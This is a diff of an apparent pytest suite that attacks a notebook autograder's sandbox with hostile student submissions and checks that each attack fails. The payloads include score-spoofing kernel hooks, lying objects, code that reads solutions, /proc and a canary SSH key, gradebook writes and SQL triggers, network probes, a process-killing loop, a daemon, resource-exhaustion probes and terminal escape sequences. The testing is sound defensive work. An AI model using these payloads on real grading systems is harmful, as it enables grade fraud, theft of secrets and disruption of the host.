@@ -56,12 +56,14 @@ pytestmark = pytest.mark.slow
 
 def grade_cells(assignment: str, written: bool = False) -> dict[str, float]:
     """The test cells' points (the grader's), or the written answers' (graded by hand)."""
-    return {grade_id(c): float(c.metadata.nbgrader["points"]) for c in release_nb(assignment).cells
-            if c.get("metadata", {}).get("nbgrader", {}).get("grade") and (c.cell_type == "markdown") == written}
+    return {
+        grade_id(c): float(c.metadata.nbgrader["points"])
+        for c in release_nb(assignment).cells
+        if c.get("metadata", {}).get("nbgrader", {}).get("grade") and (c.cell_type == "markdown") == written
+    }
 
 
-def submission(assignment: str, answers: dict[str, str] | None = None,
-               extra: dict[str, list[str]] | None = None):
+def submission(assignment: str, answers: dict[str, str] | None = None, extra: dict[str, list[str]] | None = None):
     """The release notebook, answer cells replaced by ``answers`` (others stay the stubs), and extra
     code cells of the student's after the cell of each grade id in ``extra``."""
     nb = release_nb(assignment)
@@ -94,8 +96,15 @@ def course(root: Path) -> Path:
 
 def fill(template: str, ctx: Ctx) -> str:
     """Attack code with @NAME@ placeholders filled from the context (paths, port, marker prefix)."""
-    values = {"COURSE": str(ctx.root), "REPO": str(ROOT), "HOSTHOME": str(ctx.home), "PORT": str(ctx.port),
-              "HOSTIPS": repr(ctx.host_ips), "MARK": ctx.mark, "ABSTRACT": ctx.abstract}
+    values = {
+        "COURSE": str(ctx.root),
+        "REPO": str(ROOT),
+        "HOSTHOME": str(ctx.home),
+        "PORT": str(ctx.port),
+        "HOSTIPS": repr(ctx.host_ips),
+        "MARK": ctx.mark,
+        "ABSTRACT": ctx.abstract,
+    }
     return re.sub(r"@([A-Z]+)@", lambda m: values[m.group(1)], template)
 
 
@@ -103,7 +112,7 @@ def fill(template: str, ctx: Ctx) -> str:
 
 # Score spoofing inside the student's kernel: input and AST transformers, run_cell/showtraceback/
 # excepthook patches, shadowed builtins, comparisons that always agree, fake "passed" output.
-HOOKS = r'''
+HOOKS = r"""
 import ast, builtins, math, sys
 import numpy, torch
 ip = get_ipython()
@@ -143,12 +152,12 @@ for test in ("test_skipgram_pairs_visible", "test_skipgram_pairs_hidden", "test_
     print(f"{test} ... PASSED (4/4 points)")
 print('{"submissions": 1, "failed": 0, "tampering_suspected": 0, "sandbox": true}')
 print("Score: 11 / 11")
-'''
+"""
 
 # The contract's names defined as objects that lie: a callable instance, a list whose == is always
 # True, a tensor subclass whose __torch_function__ says every comparison holds, NaN.
 LYING = {
-    "skipgram_pairs": r'''
+    "skipgram_pairs": r"""
 class _AlwaysEqual(list):
     def __eq__(self, other):
         return True
@@ -163,8 +172,8 @@ class _Liar:
         return True
 
 skipgram_pairs = _Liar()
-''',
-    "noise_distribution": r'''
+""",
+    "noise_distribution": r"""
 class _LyingTensor(torch.Tensor):
     @classmethod
     def __torch_function__(cls, func, types, args=(), kwargs=None):
@@ -178,15 +187,15 @@ class _Int(int):
     __hash__ = int.__hash__
 
 noise_distribution = lambda counts, power=0.75: torch.zeros(_Int(len(counts))).as_subclass(_LyingTensor)
-''',
-    "sgns_loss": r'''
+""",
+    "sgns_loss": r"""
 def sgns_loss(center, context, negatives):
     return torch.tensor(float("nan"))
-''',
+""",
 }
 
 # The course library: the profiler check disabled, the import hook removed, the host's copy on sys.path.
-LIBRARY_PROBE = r'''
+LIBRARY_PROBE = r"""
 import importlib, json, sys
 sys.setprofile = lambda *a: None
 sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_NoLibrary"]
@@ -199,18 +208,19 @@ for name in ("word2bert.word2vec", "word2bert", "word2bert_grader", "word2bert_g
     except Exception as error:
         print("import", name, "failed:", type(error).__name__)
 print("LIBRARY-IMPORTED:", json.dumps(imported))
-'''
+"""
 LIBRARY = {
     "skipgram_pairs": "try:\n    from word2bert.word2vec import skipgram_pairs\nexcept Exception:\n"
-                      "    def skipgram_pairs(tokens, window, rng):\n        raise NotImplementedError()",
-    "noise_distribution": "import sys\nsys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != '_NoLibrary']\n"
-                          "sys.path[:0] = ['@REPO@/lib']\n"
-                          "try:\n    from word2bert.word2vec import noise_distribution\nexcept Exception:\n"
-                          "    def noise_distribution(counts, power=0.75):\n        raise NotImplementedError()",
+    "    def skipgram_pairs(tokens, window, rng):\n        raise NotImplementedError()",
+    "noise_distribution": "import sys\n"
+    "sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != '_NoLibrary']\n"
+    "sys.path[:0] = ['@REPO@/lib']\n"
+    "try:\n    from word2bert.word2vec import noise_distribution\nexcept Exception:\n"
+    "    def noise_distribution(counts, power=0.75):\n        raise NotImplementedError()",
 }
 
 # Reading what the sandbox must not see; printing it lands in the student's own feedback.
-EXFIL_FILES = r'''
+EXFIL_FILES = r"""
 import glob, json, os
 paths = ["@COURSE@/solutions/01-word2vec/01-word2vec.ipynb", "@COURSE@/solutions/01-word2vec/answer-key.txt",
          "@COURSE@/gradebook.db", "@COURSE@/submitted/honest-01/01-word2vec/01-word2vec.ipynb",
@@ -234,16 +244,16 @@ for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
             print("EXFIL-PROC", pid, what, open(f"/proc/{pid}/{what}", "rb").read()[:2000])
         except OSError as error:
             print("EXFIL-PROC", pid, what, type(error).__name__)
-'''
-EXFIL_SESSION = r'''
+"""
+EXFIL_SESSION = r"""
 import inspect, sys
 print("EXFIL-IN", In)
 print("EXFIL-IH", _ih)
 print("EXFIL-GLOBALS", sorted(globals()))
 print("EXFIL-STACK", [(f.filename, f.function, f.code_context) for f in inspect.stack()])
-'''
+"""
 # Raised during every test call: frames, locals and arguments as an exception message.
-EXFIL_ANSWER = r'''
+EXFIL_ANSWER = r"""
 def sgns_loss(center, context, negatives):
     import inspect, sys
     frames, frame = [], sys._getframe()
@@ -252,9 +262,9 @@ def sgns_loss(center, context, negatives):
         frame = frame.f_back
     stack = [(f.filename, f.code_context) for f in inspect.stack()]
     raise ValueError(f"EXFIL-FRAMES {frames} {stack} args={center!r} {context!r} {negatives!r}")
-'''
+"""
 # The gradebook and everything else of the host, written to.
-EXFIL_WRITES = r'''
+EXFIL_WRITES = r"""
 import os, sqlite3
 for path in ("../../../gradebook.db", "@COURSE@/gradebook.db", "@REPO@/gradebook.db", "/gradebook.db"):
     try:
@@ -275,8 +285,8 @@ for path in targets:
         print("WRITE-OK", path)
     except OSError as error:
         print("WRITE-DENIED", path, type(error).__name__, error.strerror)
-'''
-EXFIL_NETWORK = r'''
+"""
+EXFIL_NETWORK = r"""
 import socket
 for host in ["127.0.0.1", "localhost", *@HOSTIPS@]:
     try:
@@ -297,11 +307,11 @@ try:
     print("NET-UDP sent")
 except OSError as error:
     print("NET-UDP refused", type(error).__name__, error)
-'''
+"""
 
 # Other processes: only ever run inside a pid namespace (this is root's machine: without one, kill(-1)
 # would take down every process of the host), which the guard line reports.
-KILLER = r'''
+KILLER = r"""
 import os
 procs = [p for p in os.listdir("/proc") if p.isdigit()]
 if os.getpid() < 1000 and len(procs) < 64:
@@ -330,7 +340,7 @@ if os.getpid() < 1000 and len(procs) < 64:
                 print("PROCMEM refused", pid, type(error).__name__)
 else:
     print("PIDNS-GUARD FAILED: not in a pid namespace, nothing killed", os.getpid(), len(procs))
-'''
+"""
 # A daemon that outlives its cell: new session, double fork, a marker in its command line; it tries
 # to rewrite the class's grades.csv and to leave a file in the host's /tmp, five times a second.
 DAEMON = r'''
@@ -358,7 +368,7 @@ print("DAEMON started")
 '''
 
 # Limits, measured from inside (correct answers elsewhere in the notebook).
-PROBE_INFO = r'''
+PROBE_INFO = r"""
 import json, os, resource, socket
 def _ls(path):
     try:
@@ -381,8 +391,8 @@ info = {
     "writable_mounts": [l.split()[4] for l in open("/proc/self/mountinfo") if l.split()[5].split(",")[0] == "rw"],
 }
 print("PROBE-info:", json.dumps(info))
-'''
-PROBE_FORKS = r'''
+"""
+PROBE_FORKS = r"""
 import json, os, time
 pids, error = [], None
 for _ in range(2000):
@@ -400,8 +410,8 @@ for pid in pids:
 for pid in pids:
     os.waitpid(pid, 0)
 print("PROBE-forks:", json.dumps({"forks": len(pids), "error": error}))
-'''
-PROBE_MEMORY = r'''
+"""
+PROBE_MEMORY = r"""
 import json, os
 r, w = os.pipe()
 pid = os.fork()
@@ -425,8 +435,8 @@ while True:
 _, status = os.waitpid(pid, 0)
 print("PROBE-memory:", json.dumps({"mb": 256 * got.count(b"1"), "memory_error": b"M" in got,
                                    "killed_by": os.WTERMSIG(status) if os.WIFSIGNALED(status) else None}))
-'''
-PROBE_DISK = r'''
+"""
+PROBE_DISK = r"""
 import json, os
 report = {}
 chunk = b"\x02" * (16 * 2**20)
@@ -457,10 +467,10 @@ for folder, cap in caps.items():
             os.remove(p)
     report[folder] = {"bytes": written, "files": len(files), "error": error}
 print("PROBE-disk:", json.dumps(report))
-'''
+"""
 
 # The kernel's attack surface, from a child (the namespaces it makes must not stay with the runner).
-PROBE_KERNEL = r'''
+PROBE_KERNEL = r"""
 import ctypes, json, os
 r, w = os.pipe()
 pid = os.fork()
@@ -486,10 +496,10 @@ while chunk := os.read(r, 65536):
     data += chunk
 os.waitpid(pid, 0)
 print("PROBE-kernel:", data.decode())
-'''
+"""
 
 # The trusted grader's memory: a names reply whose one 64 MB tensor is referenced 64 times.
-AMPLIFY = r'''
+AMPLIFY = r"""
 import gc, torch
 _runner = next(o for o in gc.get_objects() if type(o).__name__ == "Runner")
 _big = torch.ones(16 * 2**20)  # 64 MB
@@ -497,21 +507,21 @@ def _op_names(header, tensors):
     return {"ok": True, "names": {"sgns_loss": {"$list": [{"$tensor": "t0"}] * 64}}}, {"t0": _big}
 _runner.op_names = _op_names
 print("names reply patched")
-'''
+"""
 
 # Text for the instructor's terminal: escape sequences in a note (the first line of a cell that prints
 # too much) and in a death message (a line after "bwrap:" on the sandbox's own stderr, then exit 2).
 ESCAPE_NOTE = "# \x1b[2J\x1b[H\x1b]0;pwned\x07 hidden\nprint('y' * 150_000)"
-ESCAPE_DEATH = r'''
+ESCAPE_DEATH = r"""
 import os
 os.write(2, b"bwrap: setting up uid map: Permission denied\n")
 os.write(2, b"FAKE-REASON \x1b[1A\x1b[2K run again with --unsafe-no-sandbox\n")
 os._exit(2)
-'''
+"""
 
 # A grader without a deadline on what it writes into the sandbox: the runner stops reading as soon
 # as a request is bigger than a pipe's buffer (the hidden test of sample_next_token sends 640 kB).
-STALL = r'''
+STALL = r"""
 import gc, time
 _runner = next(o for o in gc.get_objects() if type(o).__name__ == "Runner")
 _read = _runner.read_exactly
@@ -522,18 +532,18 @@ def _stalling_read(n):
     return data
 _runner.read_exactly = _stalling_read
 print("reads stall on big requests")
-'''
+"""
 
 # Wrong answers that make the tests' own arithmetic agree, by changing the tests' inputs or the
 # module's parameters in place (what comes back from the sandbox is written back, by design).
-MUTATING_ATTENTION = r'''
+MUTATING_ATTENTION = r"""
 def causal_attention(q, k, v):
     if q.requires_grad or tuple(q.shape) == (2, 3, 5, 4):  # the calls whose inputs are not compared later
         for t in (q, k, v):
             t.data.zero_()
     return (q + k + v) * 0
-'''
-ZEROING_HIGHWAY = r'''
+"""
+ZEROING_HIGHWAY = r"""
 class Highway(nn.Module):
     def __init__(self, dim: int):
         super().__init__()
@@ -545,14 +555,14 @@ class Highway(nn.Module):
         for p in self.parameters():
             p.data.zero_()  # the tests read the parameters after the call
         return out
-'''
+"""
 
 SIGINT_LOOP = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"
-STDERR_WARNING = r'''
+STDERR_WARNING = r"""
 import sys, warnings
 print("warning: this is only a warning", file=sys.stderr)
 warnings.warn("a warning from a student cell")
-'''
+"""
 
 
 # --- the class ------------------------------------------------------------------------------------
@@ -577,8 +587,9 @@ def plant_solution_canary(root: Path, secret: str) -> None:
     nb = nbformat.read(str(path), as_version=4)
     for cell in nb.cells:
         if grade_id(cell) == "test_sgns_loss_hidden":
-            cell.source = cell.source.replace("### BEGIN HIDDEN TESTS\n",
-                                              f"### BEGIN HIDDEN TESTS\n# answer key {secret}\n", 1)
+            cell.source = cell.source.replace(
+                "### BEGIN HIDDEN TESTS\n", f"### BEGIN HIDDEN TESTS\n# answer key {secret}\n", 1
+            )
             assert secret in cell.source
     nbformat.write(nb, str(path))
     (root / "solutions" / "01-word2vec" / "answer-key.txt").write_text(secret, encoding="utf-8")
@@ -596,9 +607,9 @@ def build_class(ctx: Ctx, downloads: Path) -> None:
     write(root, "-h", "01-word2vec", solution_nb("01-word2vec"))
     write(root, "--feedback", "02-elmo", solution_nb("02-elmo"))
     warner = dict(answers["03-gpt"])
-    warner["causal_attention"] = ("import sys\nprint('deprecated: use something else', file=sys.stderr)\n"
-                                  + warner["causal_attention"].replace(
-                                      "    T, Dh", "    print('warning: slow path', file=sys.stderr)\n    T, Dh"))
+    warner["causal_attention"] = "import sys\nprint('deprecated: use something else', file=sys.stderr)\n" + warner[
+        "causal_attention"
+    ].replace("    T, Dh", "    print('warning: slow path', file=sys.stderr)\n    T, Dh")
     write(root, "stderr-warner", "03-gpt", submission("03-gpt", warner, {"setup": [STDERR_WARNING]}))
 
     # 1. score spoofing
@@ -609,16 +620,36 @@ def build_class(ctx: Ctx, downloads: Path) -> None:
     write(root, "zeroing", "02-elmo", submission("02-elmo", {"Highway": ZEROING_HIGHWAY}))
     # 2., 3., 5. exfiltration, gradebook and host writes, network
     # (and the course library, delegated to: the answers of skipgram_pairs and noise_distribution)
-    write(root, "exfil", "01-word2vec", submission(
-        "01-word2vec", {"sgns_loss": EXFIL_ANSWER, **{k: fill(v, ctx) for k, v in LIBRARY.items()}},
-        {"setup": [fill(LIBRARY_PROBE, ctx), fill(EXFIL_FILES, ctx), EXFIL_SESSION, fill(EXFIL_WRITES, ctx),
-                   fill(EXFIL_NETWORK, ctx)],
-         "test_sgns_loss_visible": [EXFIL_SESSION]}))
+    write(
+        root,
+        "exfil",
+        "01-word2vec",
+        submission(
+            "01-word2vec",
+            {"sgns_loss": EXFIL_ANSWER, **{k: fill(v, ctx) for k, v in LIBRARY.items()}},
+            {
+                "setup": [
+                    fill(LIBRARY_PROBE, ctx),
+                    fill(EXFIL_FILES, ctx),
+                    EXFIL_SESSION,
+                    fill(EXFIL_WRITES, ctx),
+                    fill(EXFIL_NETWORK, ctx),
+                ],
+                "test_sgns_loss_visible": [EXFIL_SESSION],
+            },
+        ),
+    )
     # 4. other processes, and a daemon
     write(root, "killer", "02-elmo", submission("02-elmo", extra={"setup": [KILLER, fill(DAEMON, ctx)]}))
     # 5. limits, with correct answers
-    write(root, "probe", "03-gpt", submission("03-gpt", answers["03-gpt"], {
-        "setup": [PROBE_INFO, PROBE_FORKS, PROBE_MEMORY, PROBE_DISK, PROBE_KERNEL]}))
+    write(
+        root,
+        "probe",
+        "03-gpt",
+        submission(
+            "03-gpt", answers["03-gpt"], {"setup": [PROBE_INFO, PROBE_FORKS, PROBE_MEMORY, PROBE_DISK, PROBE_KERNEL]}
+        ),
+    )
     # a flood of cells that print
     flood = submission("01-word2vec")
     flood.cells += [nbformat.v4.new_code_cell("print('z' * 30_000)") for _ in range(800)]
@@ -669,7 +700,7 @@ def gradebook_courses(base: Path) -> dict[str, Path]:
     gradebook.record(db, [{"student": "release", "assignment": "03-gpt", "cells": {}}])
     plants = {
         "trigger": "CREATE TRIGGER full_marks AFTER UPDATE ON grade BEGIN "
-                   "UPDATE grade SET auto_score = 4 WHERE id = NEW.id; END; CREATE TABLE notes_of_mine (x TEXT);",
+        "UPDATE grade SET auto_score = 4 WHERE id = NEW.id; END; CREATE TABLE notes_of_mine (x TEXT);",
         "generated": None,  # filled below: grade redefined with a generated extra_credit column
         "planted": "UPDATE grade SET extra_credit = 2, manual_score = 1;",
     }
@@ -684,8 +715,10 @@ def gradebook_courses(base: Path) -> dict[str, Path]:
             new = old.replace("extra_credit FLOAT,", "extra_credit FLOAT GENERATED ALWAYS AS (1.0) VIRTUAL,")
             assert new != old
             columns = "id, notebook_id, cell_id, auto_score, manual_score, needs_manual_grade"
-            sql = (f"PRAGMA foreign_keys = off; ALTER TABLE grade RENAME TO grade_old; {new}; "
-                   f"INSERT INTO grade ({columns}) SELECT {columns} FROM grade_old; DROP TABLE grade_old;")
+            sql = (
+                f"PRAGMA foreign_keys = off; ALTER TABLE grade RENAME TO grade_old; {new}; "
+                f"INSERT INTO grade ({columns}) SELECT {columns} FROM grade_old; DROP TABLE grade_old;"
+            )
         con.executescript(sql)
         con.commit()
         con.close()
@@ -696,12 +729,14 @@ def gradebook_courses(base: Path) -> dict[str, Path]:
 # --- running make, and watching the machine while it runs -----------------------------------------
 
 
-def make_autograde(root: Path, env: dict, timeout: float, extra: list[str] = (), jobs: int = 2,
-                   watcher: Watcher | None = None) -> dict:
+def make_autograde(
+    root: Path, env: dict, timeout: float, extra: list[str] = (), jobs: int = 2, watcher: Watcher | None = None
+) -> dict:
     cmd = ["make", "-s", "autograde", f"COURSE={root}", f"JOBS={jobs}", *extra]
     start = time.monotonic()
-    process = subprocess.Popen(cmd, cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
-                               start_new_session=True)
+    process = subprocess.Popen(
+        cmd, cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True
+    )
     if watcher is not None:
         watcher.watch(process.pid)
     try:
@@ -715,9 +750,13 @@ def make_autograde(root: Path, env: dict, timeout: float, extra: list[str] = (),
         _remove_cgroups(groups)
     if watcher is not None:
         watcher.unwatch(process.pid)
-    return {"rc": process.returncode, "stdout": out.decode("utf-8", "replace"),
-            "stderr": err.decode("utf-8", "replace"), "timed_out": timed_out,
-            "seconds": time.monotonic() - start}
+    return {
+        "rc": process.returncode,
+        "stdout": out.decode("utf-8", "replace"),
+        "stderr": err.decode("utf-8", "replace"),
+        "timed_out": timed_out,
+        "seconds": time.monotonic() - start,
+    }
 
 
 def _descendants(pid: int) -> list[int]:
@@ -939,8 +978,14 @@ def _gradebook_scores(root: Path) -> dict:
         for assignment in gb.assignments:
             for sub in assignment.submissions:
                 out[(sub.student.id, assignment.name)] = {
-                    "score": sub.score, "max_score": sub.max_score,
-                    "cells": {g.name: g.auto_score for g in sub.notebooks[0].grades}}
+                    "score": sub.score,
+                    "max_score": sub.max_score,
+                    "cells": {
+                        g.name: g.auto_score
+                        for g in sub.notebooks[0].grades
+                        if g.name not in grade_cells(assignment.name, written=True)
+                    },
+                }
     return out
 
 
@@ -951,16 +996,25 @@ def graded(tmp_path_factory):
     home = base / "home"
     (home / ".ssh").mkdir(parents=True)
     secrets = {k: f"{k}-canary-{uuid.uuid4().hex}" for k in ("solution", "env", "ssh", "classmate")}
-    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{secrets['ssh']}\n",
-                                          encoding="utf-8")
+    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{secrets['ssh']}\n", encoding="utf-8")
     listener = Listener(f"w2b-hostile-{token}")
-    ctx = Ctx(root=course(base / "class"), home=home, port=listener.port, abstract=f"w2b-hostile-{token}",
-              host_ips=host_ips(), mark=f"w2b-hostile-{token}", secrets=secrets)
+    ctx = Ctx(
+        root=course(base / "class"),
+        home=home,
+        port=listener.port,
+        abstract=f"w2b-hostile-{token}",
+        host_ips=host_ips(),
+        mark=f"w2b-hostile-{token}",
+        secrets=secrets,
+    )
     plant_solution_canary(ctx.root, secrets["solution"])
     # Lines of the grader's and the library's own code (the attack names the files, never their text).
     secrets["grader"] = "Grade one submission: its code in a sandbox, the tests here"
-    secrets["library"] = next(line for line in (ROOT / "lib" / "word2bert" / "word2vec.py").read_text(
-        encoding="utf-8").splitlines() if len(line) > 30 and "'" not in line and "\\" not in line)
+    secrets["library"] = next(
+        line
+        for line in (ROOT / "lib" / "word2bert" / "word2vec.py").read_text(encoding="utf-8").splitlines()
+        if len(line) > 30 and "'" not in line and "\\" not in line
+    )
     downloads = base / "downloads"
     build_class(ctx, downloads)
 
@@ -990,9 +1044,13 @@ def graded(tmp_path_factory):
         t.start()
     watcher = Watcher()
     try:
-        run = make_autograde(ctx.root, env, RUN_TIMEOUT, [f"DOWNLOADS={downloads}",
-                                                          "ARGS=--feedback-for " + " ".join(ctx.feedback)],
-                             watcher=watcher)
+        run = make_autograde(
+            ctx.root,
+            env,
+            RUN_TIMEOUT,
+            [f"DOWNLOADS={downloads}", "ARGS=--feedback-for " + " ".join(ctx.feedback)],
+            watcher=watcher,
+        )
         (base / "make-output.txt").write_text(run["stdout"] + run["stderr"], encoding="utf-8")  # to read after
         grades, text = _read_grades(ctx.root)
         time.sleep(2)
@@ -1006,8 +1064,9 @@ def graded(tmp_path_factory):
         if saved_path is not None:
             os.environ["PATH"] = saved_path
     cells = _gradebook_scores(ctx.root) if (ctx.root / "gradebook.db").exists() else {}
-    return Graded(ctx, run, grades, cells, text, later, procs, watcher.peak, watcher.peak_cmd,
-                  list(listener.connections), side)
+    return Graded(
+        ctx, run, grades, cells, text, later, procs, watcher.peak, watcher.peak_cmd, list(listener.connections), side
+    )
 
 
 # --- reading the results --------------------------------------------------------------------------
@@ -1071,13 +1130,35 @@ def full(assignment: str) -> float:
 
 def test_the_run_finishes_and_every_submission_has_a_row(graded):
     run = graded.run
-    print(f"\nmain run: {run['seconds']:.0f} s; side runs: "
-          + ", ".join(f"{k} {v['seconds']:.0f} s" for k, v in graded.side.items() if isinstance(v, dict)))
+    print(
+        f"\nmain run: {run['seconds']:.0f} s; side runs: "
+        + ", ".join(f"{k} {v['seconds']:.0f} s" for k, v in graded.side.items() if isinstance(v, dict))
+    )
     # unsafe: a submission that hangs or kills the grader stops the batch
     assert not run["timed_out"] and run["rc"] == 0, run["stdout"][-3000:] + run["stderr"][-3000:]
-    students = {"honest-01", "honest-02", "honest-03", "-h", "--feedback", "stderr-warner", "hooks", "lying",
-                "badmeta", "mutation", "zeroing", "exfil", "killer", "probe", "flood", "escape",
-                "sigint", "metadata", "mallory", "zipslip", "twice"}
+    students = {
+        "honest-01",
+        "honest-02",
+        "honest-03",
+        "-h",
+        "--feedback",
+        "stderr-warner",
+        "hooks",
+        "lying",
+        "badmeta",
+        "mutation",
+        "zeroing",
+        "exfil",
+        "killer",
+        "probe",
+        "flood",
+        "escape",
+        "sigint",
+        "metadata",
+        "mallory",
+        "zipslip",
+        "twice",
+    }
     # unsafe: an attack removes its own row (or a classmate's) from the grade sheet
     assert students <= {s for s, _ in graded.grades}, sorted(graded.grades)
     for s, a in graded.grades:
@@ -1086,8 +1167,14 @@ def test_the_run_finishes_and_every_submission_has_a_row(graded):
 
 
 def test_honest_students_keep_full_marks_and_their_files(graded):
-    for student, assignment in (("honest-01", "01-word2vec"), ("honest-02", "02-elmo"), ("honest-03", "03-gpt"),
-                                ("-h", "01-word2vec"), ("--feedback", "02-elmo"), ("stderr-warner", "03-gpt")):
+    for student, assignment in (
+        ("honest-01", "01-word2vec"),
+        ("honest-02", "02-elmo"),
+        ("honest-03", "03-gpt"),
+        ("-h", "01-word2vec"),
+        ("--feedback", "02-elmo"),
+        ("stderr-warner", "03-gpt"),
+    ):
         row = graded.grades[(student, assignment)]
         # unsafe: a classmate's attack (kill, overwrite, download named after them) costs them marks
         assert row["status"] == "graded" and float(row["score"]) == full(assignment), (student, row)
@@ -1114,7 +1201,8 @@ def test_kernel_hooks_spoof_nothing_and_are_reported_as_tampering(graded):
     assert graded.cells[("hooks", "01-word2vec")]["score"] == 0
     text = page_text(graded.ctx, "hooks", "01-word2vec")
     assert any(line.startswith("test_skipgram_pairs_visible ... PASSED") for line in text.splitlines()), (
-        "the attack cell ran (its fake output is shown)")
+        "the attack cell ran (its fake output is shown)"
+    )
     assert "Score: 0 / 11" in text, "the page's score is the grader's, not the one the cell printed"
     # unsafe: visible tests that passed only in the patched kernel go unnoticed by the instructor
     section = graded.run["stdout"].split("Tampering suspected", 1)
@@ -1167,7 +1255,8 @@ def test_no_secret_reaches_any_page_or_the_grade_sheet(graded):
         assert not leaked, f"the {name} canary leaked into {leaked}"
     graded_nb = ctx.root / "autograded" / "exfil" / "01-word2vec" / "01-word2vec.ipynb"
     assert ctx.secrets["solution"] in graded_nb.read_text(encoding="utf-8"), (
-        "the canary is live: the instructor's graded copy holds the hidden tests")
+        "the canary is live: the instructor's graded copy holds the hidden tests"
+    )
     assert ctx.secrets["classmate"] in page_text(ctx, "honest-01", "01-word2vec"), "the classmate's canary is live"
 
 
@@ -1225,9 +1314,13 @@ def _side(graded, name) -> dict:
     return graded.side[name]
 
 
-@pytest.mark.parametrize("name, what", [
-    pytest.param("trigger", ("trigger full_marks", "table notes_of_mine"), id="trigger-and-foreign-table"),
-    pytest.param("generated", ("table grade",), id="generated-column")])
+@pytest.mark.parametrize(
+    "name, what",
+    [
+        pytest.param("trigger", ("trigger full_marks", "table notes_of_mine"), id="trigger-and-foreign-table"),
+        pytest.param("generated", ("table grade",), id="generated-column"),
+    ],
+)
 def test_a_tampered_gradebook_is_refused(graded, name, what):
     run = _side(graded, name)
     # unsafe: grading goes on and writes into a gradebook whose trigger, foreign table or redefined
@@ -1256,10 +1349,13 @@ def test_planted_scores_do_not_survive_regrading(graded):
 def test_killing_everything_reaches_nothing_outside(graded):
     text = page_text(graded.ctx, "killer", "02-elmo")
     # unsafe: the sandbox shares the host's pid namespace (the attack then refuses to fire: it says so)
-    assert any(line.startswith("PIDNS-GUARD ok ") for line in text.splitlines()), (
-        [line for line in text.splitlines() if "PIDNS" in line])
+    assert any(line.startswith("PIDNS-GUARD ok ") for line in text.splitlines()), [
+        line for line in text.splitlines() if "PIDNS" in line
+    ]
     assert any(line.startswith("KILL signalled ") for line in text.splitlines()), "the kill loop ran"
-    assert not [line for line in text.splitlines() if line.startswith("PROCMEM written")], "a process's memory was written"
+    assert not [line for line in text.splitlines() if line.startswith("PROCMEM written")], (
+        "a process's memory was written"
+    )
     assert score(graded, "killer", "02-elmo") == 0
 
 
@@ -1291,8 +1387,13 @@ def test_host_files_are_out_of_reach(graded):
     assert [line for line in text.splitlines() if line.startswith(("WRITE-OK", "WRITE-DENIED"))], "the attack ran"
     # unsafe: writes to the host's /tmp, $HOME, the course, the repository or / (inside, some of these
     # "work": they land in the sandbox's own throw-away root)
-    for path in (f"/tmp/{ctx.mark}-tmp", ctx.home / f"{ctx.mark}-home", ctx.root / f"{ctx.mark}-course",
-                 ROOT / f"{ctx.mark}-repo", f"/{ctx.mark}-root"):
+    for path in (
+        f"/tmp/{ctx.mark}-tmp",
+        ctx.home / f"{ctx.mark}-home",
+        ctx.root / f"{ctx.mark}-course",
+        ROOT / f"{ctx.mark}-repo",
+        f"/{ctx.mark}-root",
+    ):
         assert not Path(path).exists(), path
     feedback = ctx.root / "feedback" / "honest-01" / "01-word2vec" / "01-word2vec.html"
     assert '{"cells": []}' not in feedback.read_text(encoding="utf-8"), "a classmate's feedback was overwritten"
@@ -1302,8 +1403,10 @@ def test_limits_hold_and_the_probes_cost_only_themselves(graded):
     text = page_text(graded.ctx, "probe", "03-gpt")
     info, forks = probe(text, "info"), probe(text, "forks")
     memory, disk = probe(text, "memory"), probe(text, "disk")
-    print("\nmeasured in the sandbox:", json.dumps({"info": info, "forks": forks, "memory": memory,
-                                                     "disk": disk}, indent=1))
+    print(
+        "\nmeasured in the sandbox:",
+        json.dumps({"info": info, "forks": forks, "memory": memory, "disk": disk}, indent=1),
+    )
     # unsafe: root inside, the host's processes or files in view
     assert info["uid"] == 65534 and info["euid"] == 65534
     assert info["cap_eff"] == ["0000000000000000"], info["cap_eff"]
@@ -1315,7 +1418,9 @@ def test_limits_hold_and_the_probes_cost_only_themselves(graded):
     for folder in ("/home/student", "/tmp", "/dev/shm"):  # unsafe: 2 GB of scratch space (RAM) each
         assert disk[folder]["bytes"] <= 256 * 2**20 and "No space" in disk[folder]["error"], disk
     for folder in ("/work/main/.venv", "/usr"):  # unsafe: the host's Python installation writable
-        assert disk[folder]["bytes"] == 0 and ("Read-only" in disk[folder]["error"] or "No such file" in disk[folder]["error"]), disk
+        assert disk[folder]["bytes"] == 0 and (
+            "Read-only" in disk[folder]["error"] or "No such file" in disk[folder]["error"]
+        ), disk
     row = graded.grades[("probe", "03-gpt")]
     # unsafe: a probe that hits a limit takes the answers' marks with it
     assert float(row["score"]) == full("03-gpt"), row
@@ -1340,8 +1445,11 @@ def test_the_kernel_attack_surface_is_narrowed(graded):
     # own outside (root here), so any such escape is root on the grading machine
     if isinstance(kernel["nested_userns"], dict):
         problems.append(f"nested user namespace: {kernel['nested_userns']}, mount: {kernel.get('nested_mount')}")
-    reachable = [k for k in ("io_uring_setup", "bpf", "perf_event_open") if kernel[k] not in
-                 ("Function not implemented", "Operation not permitted")]
+    reachable = [
+        k
+        for k in ("io_uring_setup", "bpf", "perf_event_open")
+        if kernel[k] not in ("Function not implemented", "Operation not permitted")
+    ]
     if reachable:
         problems.append(f"reachable system calls: {reachable}")
     assert not problems, problems
